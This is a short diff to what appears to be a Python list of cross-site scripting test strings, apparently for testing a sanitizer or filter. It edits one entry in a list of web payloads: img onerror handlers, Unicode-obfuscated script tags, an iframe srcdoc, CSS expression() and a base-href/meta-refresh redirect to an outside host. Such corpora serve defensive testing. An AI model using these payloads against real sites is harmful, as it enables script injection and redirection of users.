@@ -50,7 +50,7 @@ LINES = [
     f"&lt;img src=x onerror={DO}&gt;",
     f"\u202e<img src=x onerror={DO}>\u202c",
     f"\uff1cscript\uff1e{DO}\uff1c/script\uff1e",
-    f"]0;<img src=x onerror={DO}>\x85\u2028{DO}//",
+    f"\x85\u2028<img src=x onerror={DO}>\x85\u2028{DO}//",
     f"<iframe srcdoc='<script>parent.{DO}</script>'>",
     f"<style>@import'//x'</style><a style='x:expression({DO})'>",
     "<base href=//elsewhere.example><meta http-equiv=refresh content=0;url=//elsewhere.example>",
